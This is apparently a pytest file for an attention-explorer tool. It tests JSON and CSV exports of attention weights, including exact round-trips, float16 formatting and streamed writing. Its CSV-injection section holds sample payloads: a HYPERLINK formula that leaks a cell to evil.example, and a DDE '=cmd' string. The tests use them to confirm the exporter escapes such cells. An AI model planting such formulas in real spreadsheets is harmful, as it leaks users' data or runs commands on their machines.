"""Exports of an analysis (issue 11): the JSON of a whole result and the CSV of its weights.

Each file is read back here INDEPENDENTLY of services.exchange (the json, base64 and csv modules and
numpy.frombuffer), and compared with the result exactly; then ``from_json`` must give back the same
result, field by field, type by type.
"""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
import json
import re
from decimal import ROUND_CEILING, ROUND_FLOOR, Decimal

import numpy as np
import pytest

from attention_explorer.services import extract_attention, ondemand
from attention_explorer.services.analyses.exports import atlas_csv, view_csv_for, view_numbers
from attention_explorer.services.analyses.views import View, ViewOptions
from attention_explorer.services.model.loading import get_model
from attention_explorer.services.result import AttentionResult
from attention_explorer.services.serial import CSV_HEADER, ExchangeError, ExportTooLarge, view_csv
from tests.services.store.test_codec import assert_same

SENTENCE = "The cat sat on the mat because it was tired."
HEADER = "layer,head,query_index,query_token,key_index,key_token,weight"


def odd_result() -> AttentionResult:
    """A result made in code with awkward values: tokens with commas, quotes, line breaks, a lone
    surrogate and CJK; NaN; a numpy scalar; value norms; big-endian input."""
    rng = np.random.default_rng(0)
    att = rng.random((2, 3, 6, 6)).astype(np.float32)
    att = (att / att.sum(-1, keepdims=True)).astype(np.float16)
    return AttentionResult(
        tokens=["[CLS]", 'say "hi", all', "line\nbreak", "\ud800lone", "猫", "[SEP]"], attentions=att,
        model_id="org/model", truncated=True, special_mask=np.array([1, 0, 0, 0, 0, 1], bool),
        word_ids=[None, 0, 1, 2, 3, None], segment_ids=[None, 0, 0, 0, 0, None], is_causal=False,
        unknown_share=float("nan"), unknown_count=np.int64(2), token_count_before_truncation=9, token_limit=6,
        text="text, with \"quotes\"", text_pair=None, offsets=[(0, 0), (0, 3), (4, 8), (9, 10), (11, 12), (0, 0)],
        unk_token="[UNK]", value_norms=rng.random((2, 3, 6)).astype(">f4"), value_norms_reason="",
        token_ids=[101, 7, 8, 100, 9, 102])


def read_array(entry: dict) -> np.ndarray:
    """An array of the JSON file as any reader would: base64, numpy's dtype string, C order."""
    return np.frombuffer(base64.b64decode(entry["data"]), dtype=np.dtype(entry["dtype"])).reshape(entry["shape"])


# ---------------------------------------------------------------------------------------------- JSON


@pytest.mark.parametrize("kind,pair", [("bert", None), ("bert", "The dog ran in the park."), ("gpt2", None),
                                       ("chinese", None)])
def test_json_holds_every_field_and_reads_back_independently(settings, tiny_models, kind, pair):
    text = SENTENCE if kind != "chinese" else "猫坐在垫子上因为它累了。"
    result = extract_attention(text, tiny_models[kind], pair)
    doc = json.loads(result.to_json())
    assert doc["format"] == "attention-explorer-analysis" and doc["version"] == 2
    fields = doc["result"]
    assert set(fields) == {f.name for f in dataclasses.fields(AttentionResult)}
    assert fields["maps"] is None  # a recorded result: its queries, keys and recipe, not its maps
    queries, keys = read_array(fields["queries"]), read_array(fields["keys"])
    assert fields["queries"]["dtype"] == "<f4" and queries.shape[:3] == (result.num_layers, result.num_heads,
                                                                          len(result.tokens))
    np.testing.assert_array_equal(queries, result.queries)  # exact, bit for bit
    np.testing.assert_array_equal(keys, result.keys)
    # the maps again from the JSON alone, with numpy: softmax(q·kᵀ · scaling), later keys hidden when causal
    scaling = read_array(fields["scaling"])
    n = len(result.tokens)
    for layer, head in ((0, 0), (result.num_layers - 1, result.num_heads - 1)):
        scores = queries[layer, head].astype(np.float64) @ keys[layer, head].astype(np.float64).T * scaling[layer]
        if fields["is_causal"]:
            scores[np.triu_indices(n, 1)] = -np.inf
        weights = np.exp(scores - scores.max(axis=1, keepdims=True))
        weights /= weights.sum(axis=1, keepdims=True)
        np.testing.assert_allclose(ondemand.head(result.recipe(layer), head), weights, atol=1e-5)  # exact
        np.testing.assert_allclose(result.head(layer, head), weights, atol=1e-3)  # as held: float16
    np.testing.assert_array_equal(read_array(fields["special_mask"]), result.special_mask)
    assert fields["tokens"] == result.tokens
    assert fields["token_ids"] == result.token_ids
    assert fields["offsets"] == [list(o) for o in result.offsets]
    assert fields["text"] == text and fields["text_pair"] == pair and fields["model_id"] == result.model_id
    assert doc["shapes"]["queries"] == list(result.queries.shape)
    if result.value_norms is not None:
        np.testing.assert_array_equal(read_array(fields["value_norms"]), result.value_norms)
    back = AttentionResult.from_json(result.to_json())
    assert_same(result, back)
    assert back.offsets == result.offsets and all(isinstance(o, tuple) for o in back.offsets)
    assert back.queries.flags.writeable and back.attentions.dtype == np.float16
    np.testing.assert_array_equal(back.attentions, result.attentions)


def test_token_ids_are_the_tokenizers_ids(settings, tiny_models):
    result = extract_attention(SENTENCE, tiny_models["bert"])
    tokenizer = get_model(tiny_models["bert"]).tokenizer
    assert result.token_ids == tokenizer.convert_tokens_to_ids(result.tokens)
    assert result.token_ids == tokenizer(SENTENCE)["input_ids"]


def test_odd_values_round_trip_exactly():
    result = odd_result()
    text = result.to_json()
    text.encode("utf-8")  # valid UTF-8 even with a lone surrogate in a token (written as an escape)
    doc = json.loads(text)
    assert doc["result"]["unknown_share"] == "NaN"  # JSON has no NaN: a string, read back as a float
    assert doc["result"]["value_norms"]["dtype"] == "<f4"  # big-endian in, little-endian out
    np.testing.assert_array_equal(read_array(doc["result"]["value_norms"]), result.value_norms)
    back = AttentionResult.from_json(text)
    assert back.tokens == result.tokens and np.isnan(back.unknown_share)
    assert type(back.unknown_count) is np.int64 and back.unknown_count == 2
    np.testing.assert_array_equal(back.attentions, result.attentions)
    np.testing.assert_array_equal(back.value_norms, result.value_norms)
    assert back.value_norms.dtype.isnative
    assert back.offsets == result.offsets and back.token_ids == result.token_ids and back.text == result.text
    assert AttentionResult.from_json(text.encode("utf-8")).tokens == result.tokens  # bytes too


def test_fields_added_later_travel_with_no_change(monkeypatch):
    """Fields a later version adds are carried through dataclasses.fields and their annotations, like
    any field (as the seq2seq fields were)."""
    extended = dataclasses.make_dataclass(
        "AttentionResult",
        [("later_tokens", "list[str] | None", None), ("later_attentions", "np.ndarray | None", None),
         ("later_offsets", "list[tuple[int, int]]", dataclasses.field(default_factory=list))],
        bases=(AttentionResult,), frozen=True, eq=False, namespace={"__module__": AttentionResult.__module__})
    base = {f.name: getattr(odd_result(), f.name) for f in dataclasses.fields(AttentionResult)}
    result = extended(**base, later_tokens=["<s>", "Le", "chat"],
                      later_attentions=np.full((2, 3, 3, 3), 1 / 3, np.float16), later_offsets=[(0, 0), (0, 2)])
    back = extended.from_json(result.to_json())
    assert back.later_tokens == ["<s>", "Le", "chat"] and back.later_offsets == [(0, 0), (0, 2)]
    np.testing.assert_array_equal(back.later_attentions, result.later_attentions)
    assert back.later_attentions.dtype == np.float16
    old = AttentionResult.from_json(result.to_json())  # an older reader ignores the fields it does not know
    assert old.tokens == result.tokens and not hasattr(old, "later_tokens")


def _document(**changes) -> str:
    doc = json.loads(odd_result().to_json())
    for path, value in changes.items():
        target = doc
        *parents, last = path.split("__")
        for key in parents:
            target = target[key]
        if value is KeyError:
            del target[last]
        else:
            target[last] = value
    return json.dumps(doc)


@pytest.mark.parametrize("text", [
    "not json", "[]", json.dumps({"format": "something-else"}), _document(version=3), _document(version="1"),
    _document(result=None), _document(result__tokens=KeyError), _document(result__tokens=["a"]),
    _document(result__maps__data="***"),
    _document(result__maps__shape=[2, 3, 6, 5]),
    _document(result__maps__dtype="|O"),
    _document(result__maps__dtype="<U4"),
    _document(result__special_mask__shape=[7]),
    _document(result__token_ids=[1, 2]),
    _document(shapes__maps=[1, 1, 1, 1]),
    "[" * 200_000 + "]" * 200_000,  # nested too deep for json: RecursionError, refused like the rest
])
def test_junk_is_refused_with_a_plain_message(text):
    with pytest.raises(ExchangeError) as caught:
        AttentionResult.from_json(text)
    assert str(caught.value) and "Traceback" not in str(caught.value)


# ---------------------------------------------------------------------------------------------- CSV


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_of_one_head_reads_back_exactly(settings, tiny_models):
    result = extract_attention(SENTENCE, tiny_models["bert"])
    rows = read_csv(result.to_csv(layer=1, head=2))
    assert rows[0] == list(CSV_HEADER) and ",".join(rows[0]) == HEADER
    body = rows[1:]
    seq = result.seq_len
    assert len(body) == seq * seq
    weights = np.zeros((seq, seq), np.float16)
    for layer, head, q, q_token, k, k_token, w in body:
        assert (layer, head) == ("1", "2")
        assert q_token == result.tokens[int(q)] and k_token == result.tokens[int(k)]
        weights[int(q), int(k)] = np.float16(float(w))
    np.testing.assert_array_equal(weights, result.attentions[1, 2])  # the fewest digits, and exact


def test_csv_quotes_tokens_and_covers_every_layer_and_head():
    result = odd_result()
    text = result.to_csv()
    rows = read_csv(text)[1:]
    layers, heads, seq = result.attentions.shape[:3]
    assert len(rows) == layers * heads * seq * seq
    assert {(r[0], r[1]) for r in rows} == {(str(l), str(h)) for l in range(layers) for h in range(heads)}
    assert {r[3] for r in rows} == set(result.tokens)  # commas, quotes, line breaks survive
    got = np.zeros_like(result.attentions)
    for layer, head, q, _qt, k, _kt, w in rows:
        got[int(layer), int(head), int(q), int(k)] = np.float16(float(w))
    np.testing.assert_array_equal(got, result.attentions)
    assert text.startswith(HEADER + "\r\n")
    assert len(read_csv(result.to_csv(layer=1))) - 1 == heads * seq * seq
    assert {r[1] for r in read_csv(result.to_csv(head=2))[1:]} == {"2"}


@pytest.mark.parametrize("layer,head,error", [(2, None, IndexError), (-1, None, IndexError), (None, 3, IndexError),
                                              ("1", None, TypeError), (True, None, TypeError)])
def test_csv_refuses_layers_and_heads_outside_the_result(layer, head, error):
    with pytest.raises(error):
        odd_result().to_csv(layer=layer, head=head)


def _shortest_digits(value: np.float16) -> int:
    """The fewest significant digits of a decimal that reads back to ``value`` as float16 (a search over
    the two decimals of each length around the exact value, rounded down and up)."""
    exact = Decimal(float(value))
    if exact == 0:
        return 1
    for digits in range(1, 6):
        step = Decimal(1).scaleb(exact.adjusted() - digits + 1)
        with np.errstate(over="ignore"):  # rounding up near 65504 leaves float16's range: inf, not a match
            read = [np.float16(float(exact.quantize(step, way))) for way in (ROUND_FLOOR, ROUND_CEILING)]
        if value in read:
            return digits
    raise AssertionError(f"no short decimal for {value!r}")


def _significant_digits(text: str) -> int:
    return len(Decimal(text).normalize().as_tuple().digits)


def test_csv_writes_float16_weights_with_the_fewest_digits_that_read_back_as_float16():
    """A stored float16 weight is written as the shortest decimal that reads back to the same float16
    (0.1 in float16 is 0.0999755859375: "0.1"), not with the digits of its float32 value ("0.099975586")."""
    picked = [0.1, 0.2, 1 / 3, 0.7, 6e-8, 1.0]
    result = odd_result()
    att = result.attentions.copy()
    att[0, 0, 0] = picked
    written = [r[6] for r in read_csv(dataclasses.replace(result, maps=att).to_csv(layer=0, head=0))[1:7]]
    assert written[0] == "0.1" and float(np.float16(0.1)) == 0.0999755859375
    assert written == [str(np.float16(x)) for x in picked]  # numpy's own float16 text
    as_float32 = [str(np.float32(np.float16(x))) for x in picked]
    assert as_float32[0] == "0.099975586" and as_float32 != written  # the float32 route writes other digits

    finite = np.arange(0x7C00, dtype=np.uint16).view(np.float16)  # every float16 from 0 to the largest
    matrix = finite.reshape(124, 256)
    rows = read_csv(view_csv(matrix, [f"q{i}" for i in range(124)], [f"k{j}" for j in range(256)]))[1:]
    assert len(rows) == finite.size
    for (*_, q, _qt, k, _kt, text) in rows:
        value = matrix[int(q), int(k)]
        assert np.float16(float(text)) == value, (text, value)  # reads back exactly
        assert _significant_digits(text) == _shortest_digits(value), (text, value)  # and no digit more


def test_view_csv_of_float32_matrices_with_named_heads():
    rng = np.random.default_rng(1)
    matrix = rng.random((3, 4)).astype(np.float32)
    text = view_csv(matrix, ["a", "b", "c"], ["w", "x", "y", "z"], layers=[5], heads=["mean"],
                    query_index=[0, 2, 4], key_index=[1, 3, 5, 7])
    rows = read_csv(text)
    assert rows[0] == list(CSV_HEADER) and len(rows) == 13
    assert rows[1][:6] == ["5", "mean", "0", "a", "1", "w"]
    got = np.array([np.float32(float(r[6])) for r in rows[1:]], np.float32).reshape(3, 4)
    np.testing.assert_array_equal(got, matrix)
    rollout = rng.random((2, 3, 3)).astype(np.float32)  # the rollout through each layer
    rows = read_csv(view_csv(rollout, ["a", "b", "c"], heads=["rollout"]))
    assert {(r[0], r[1]) for r in rows[1:]} == {("0", "rollout"), ("1", "rollout")}
    with pytest.raises(ValueError):
        view_csv(matrix, ["a", "b"], ["w", "x", "y", "z"])
    with pytest.raises(ValueError):
        view_csv(rollout, ["a", "b", "c"], layers=[0, 1, 2])
    with pytest.raises(ExportTooLarge):
        view_csv(rollout, ["a", "b", "c"], heads=["rollout"], max_rows=10)


def test_the_numbers_behind_each_view_are_what_it_shows(settings, tiny_models):
    result = extract_attention(SENTENCE, tiny_models["bert"])
    layers, heads, seq = result.num_layers, result.num_heads, result.seq_len
    raw = View(result, ViewOptions())
    grid = view_numbers(raw, "grid", layer=1)
    assert grid.matrices.shape == (1, heads, seq, seq) and grid.layers == [1] and grid.heads == list(range(heads))
    shown = result.attentions.astype(np.float32)  # what the views show: the maps as float16
    np.testing.assert_array_equal(grid.matrices[0], shown[1])
    np.testing.assert_allclose(grid.matrices[0], result.layer(1), atol=1e-3)  # the exact maps, computed on demand
    mean = view_numbers(raw, "heatmap", layer=1, head="mean")
    np.testing.assert_allclose(mean.matrices[0, 0], shown[1].mean(0), rtol=1e-6)
    assert mean.heads == ["mean"]
    one = view_numbers(raw, "arcs", layer=0, head=3)
    np.testing.assert_array_equal(one.matrices[0, 0], shown[0, 3])
    assert view_numbers(raw, "arcs", layer=0, head="all").matrices.shape == (1, heads, seq, seq)
    assert view_numbers(raw, "overview").matrices.shape == (layers, heads, seq, seq)
    it = result.tokens.index("it")
    focus = view_numbers(raw, "focus", token=it)
    assert focus.query_tokens == ["it"] and focus.query_index == [it] and focus.heads == ["mean"]
    np.testing.assert_allclose(focus.matrices[:, 0, 0], result.attentions[:, :, it].astype(np.float32).mean(1),
                               rtol=1e-6)
    rolled = View(result, ViewOptions(rollout=True, hide_special=True))
    numbers = view_numbers(rolled, "grid")
    assert numbers.heads == ["rollout"] and numbers.matrices.shape == (layers, 1, seq - 2, seq - 2)
    assert "[CLS]" not in numbers.query_tokens
    rows = read_csv(view_csv_for(rolled, "heatmap", layer=1))[1:]
    assert {r[1] for r in rows} == {"rollout"} and len(rows) == (seq - 2) ** 2
    got = np.array([np.float32(float(r[6])) for r in rows], np.float32).reshape(seq - 2, seq - 2)
    np.testing.assert_array_equal(got, rolled.matrix(1, None)[0])
    merged = View(result, ViewOptions(merge_words=True))
    assert view_numbers(merged, "heatmap", 0, 0).query_tokens == merged.labels
    with pytest.raises(ValueError):
        view_numbers(raw, "atlas")
    with pytest.raises(ValueError):
        view_numbers(raw, "nonsense")
    with pytest.raises(ValueError):
        view_numbers(raw, "heatmap", head="every")
    with pytest.raises(ExportTooLarge):
        view_csv_for(raw, "overview", max_rows=100)


def test_atlas_csv_has_a_row_per_head():
    metrics = {"entropy": np.array([[0.5, 0.25]]), "local": np.array([[1.0, 0.125]])}
    rows = read_csv(atlas_csv(metrics, np.array([["broad", "local, tight"]])))
    assert rows == [["layer", "head", "type", "entropy", "local"], ["0", "0", "broad", "0.5", "1.0"],
                    ["0", "1", "local, tight", "0.25", "0.125"]]


def test_a_version_1_document_still_reads():
    """Format version 1 called the maps "attentions" (the JSON people downloaded before issue 17)."""
    result = odd_result()
    doc = json.loads(result.to_json())
    assert doc["version"] == 2 and "maps" in doc["result"] and "attentions" not in doc["result"]
    doc["version"] = 1
    doc["result"] = {("attentions" if k == "maps" else k): v for k, v in doc["result"].items()}
    doc["shapes"] = {("attentions" if k == "maps" else k): v for k, v in doc["shapes"].items()}
    back = AttentionResult.from_json(json.dumps(doc))
    np.testing.assert_array_equal(back.attentions, result.attentions)
    assert back.attentions.dtype == np.float16 and back.tokens == result.tokens


# ---------------------------------------------------------------------------------------------- CSV injection

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DANGEROUS_TEXT = f'{FORMULA} +1+2 -3 @SUM(A1:A9) 1'
OWASP_FIRST = ("=", "+", "-", "@", "\t", "\r")  # OWASP "CSV Injection": cells must not start with these


def _text_cells(text: str, columns: tuple[int, ...]) -> list[str]:
    return [row[c] for row in read_csv(text)[1:] for c in columns]


def _assert_no_formula_cells(cells: list[str], expected_labels: list[str]) -> None:
    """Every text cell is safe for a spreadsheet, and a dangerous label is the label behind one ``'``."""
    for cell in cells:
        assert not cell.lstrip(" ").startswith(OWASP_FIRST), f"a cell a spreadsheet would run: {cell!r}"
    escaped = {label for label in expected_labels if label.lstrip(" ").startswith(OWASP_FIRST)}
    assert escaped, "the text made no dangerous label: the test tests nothing"
    assert {"'" + label for label in escaped} <= set(cells)
    assert set(cells) == {("'" + label if label in escaped else label) for label in expected_labels}


def test_csv_escapes_cells_a_spreadsheet_would_run_gpt2(settings, tiny_models):
    """Byte-level BPE (GPT-2): ``=``, ``+1``, ``@`` ... as tokens and as merged words start cells
    with a formula character; every one is written with a ``'`` in front, inside quotes (OWASP)."""
    result = extract_attention(DANGEROUS_TEXT, tiny_models["gpt2"])
    raw = result.to_csv(layer=0, head=0)
    shown = View(result, ViewOptions()).labels
    _assert_no_formula_cells(_text_cells(raw, (3, 5)), list(result.tokens))
    assert "\"'=" in raw  # the quoted form, as OWASP writes it
    merged = View(result, ViewOptions(merge_words=True))
    words = view_csv_for(merged, "heatmap", layer=0, head=0)
    _assert_no_formula_cells(_text_cells(words, (3, 5)), list(merged.labels))
    assert any(label.startswith("=") for label in shown + list(merged.labels))


def test_csv_escapes_sentencepiece_words_that_merge_into_a_formula():
    """A SentencePiece-like tokenizer (``▁`` word marks, trained here) splits the formula into pieces;
    merged, they read ``=HYPERLINK(...)``: that cell, and every other, is escaped."""
    from tokenizers import Tokenizer, decoders, models, pre_tokenizers, trainers

    tok = Tokenizer(models.Unigram())
    tok.pre_tokenizer = pre_tokenizers.Metaspace()
    tok.decoder = decoders.Metaspace()
    tok.train_from_iterator(["the cat sat on the mat", "HYPER LINK evil example click leak SUM"] * 20 + [DANGEROUS_TEXT],
                            trainers.UnigramTrainer(vocab_size=60, special_tokens=["<unk>"], unk_token="<unk>"))
    encoded = tok.encode(DANGEROUS_TEXT)
    tokens, n = list(encoded.tokens), len(encoded.tokens)
    rng = np.random.default_rng(1)
    att = rng.random((1, 2, n, n)).astype(np.float32)
    result = AttentionResult(tokens=tokens, attentions=(att / att.sum(-1, keepdims=True)).astype(np.float16),
                             model_id="sp-like", truncated=False, special_mask=np.zeros(n, bool),
                             word_ids=list(encoded.word_ids), segment_ids=[0] * n, is_causal=False,
                             unknown_share=0.0, unknown_count=0, token_count_before_truncation=n, token_limit=64,
                             text=DANGEROUS_TEXT)
    merged = View(result, ViewOptions(merge_words=True))
    assert FORMULA in merged.labels and len(tokens) > len(merged.labels)  # pieces merged into the formula
    text = view_csv_for(merged, "heatmap", layer=0, head=1)
    _assert_no_formula_cells(_text_cells(text, (3, 5)), list(merged.labels))
    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in text  # '=HYPERLINK(""http…"") inside quotes
    _assert_no_formula_cells(_text_cells(result.to_csv(), (3, 5)), tokens)


def test_comparison_and_atlas_csv_escape_formula_cells_and_leave_numbers():
    from attention_explorer.services.serial import comparison_csv, quote_csv

    labels = ["=1+1", "+A1", "-cmd", "@SUM(A1)", "\tx", "\rx", "  =x", "fine", "-"]
    a = np.full((len(labels), len(labels)), 0.25)
    b = np.full_like(a, 0.5)
    rows = read_csv(comparison_csv(a, b, labels, labels, layer=0, head="mean"))[1:]
    for row in rows:
        for cell in (row[3], row[5]):
            assert not cell.lstrip(" ").startswith(OWASP_FIRST)
        assert row[8] == "-0.25"  # a number keeps its sign: numbers are never escaped
    assert {r[3] for r in rows} == {"'" + label if label != "fine" else label for label in labels}
    atlas = read_csv(atlas_csv({"entropy": np.array([[0.5, -0.5]])}, np.array([["=cmd|' /C calc'!A0", "local"]])))
    assert atlas[1][2] == "'=cmd|' /C calc'!A0" and atlas[2][3] == "-0.5"
    assert quote_csv("plain") == "plain" and quote_csv("a,b") == '"a,b"' and quote_csv("=a") == '"\'=a"'


# ---------------------------------------------------------------------------------------------- written in pieces

def _old_json_document(value) -> str:
    """The JSON document as issue 11 wrote it, all at once (the reference the pieces must equal)."""
    from attention_explorer.services.serial import FORMAT, VERSION, _dumps_document, fields_of

    def put(array):
        return {"dtype": array.dtype.str, "shape": list(array.shape), "data": base64.b64encode(array.tobytes()).decode()}

    fields = fields_of(value, put)
    shapes = {n: r["shape"] for n, r in fields.items() if isinstance(r, dict) and r.keys() == {"dtype", "shape", "data"}}
    return _dumps_document({"format": FORMAT, "version": VERSION, "shapes": shapes, "result": fields})


@pytest.mark.parametrize("chunk", [3, 100, 3 * 2**16])
def test_the_json_document_in_pieces_is_the_document(settings, tiny_models, chunk):
    """Piece by piece (the download route streams them) the text is the same, byte for byte, for a
    model's result and for the odd one (a lone surrogate: every non-ASCII character escaped); its size
    is known before a piece is written."""
    from attention_explorer.services.serial import JsonDocument

    for result in (extract_attention(SENTENCE, tiny_models["gpt2"]), odd_result()):
        document = JsonDocument(result, chunk_bytes=chunk)
        pieces = list(document)
        text = "".join(pieces)
        assert text == _old_json_document(result) == result.to_json()
        assert document.size == len(text.encode("utf-8"))
        arrays = [p for p in pieces if re.fullmatch(r"[A-Za-z0-9+/=]+", p)]  # base64, a slice of an array each
        assert len(arrays) > 1 and max(len(p) for p in arrays) <= max(4, chunk // 3 * 4)
        assert AttentionResult.from_json(text).tokens == result.tokens


def test_a_large_json_document_is_written_in_small_pieces():
    """Issue 19: the whole-analysis JSON of 512 tokens (about 50 MB) was built whole inside a Dash
    answer (12 at once took a worker to 2 GB). Written in pieces it costs a piece at a time."""
    import tracemalloc

    from attention_explorer.services.serial import JsonDocument

    n = 512
    att = np.full((6, 12, n, n), 1 / n, np.float16)
    result = AttentionResult(tokens=[f"t{i}" for i in range(n)], attentions=att, model_id="big", truncated=False,
                             special_mask=np.zeros(n, bool), word_ids=list(range(n)), segment_ids=[0] * n,
                             is_causal=False, unknown_share=0.0, unknown_count=0, token_count_before_truncation=n,
                             token_limit=n, text="big")
    document = JsonDocument(result)
    assert document.size > 48 * 2**20
    tracemalloc.start()
    try:
        written, largest = 0, 0
        for piece in document:
            written += len(piece)
            largest = max(largest, len(piece))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert written == document.size and largest <= 2**18
    assert peak < 4 * 2**20, f"{peak / 2**20:.1f} MB held while writing {document.size / 2**20:.0f} MB"
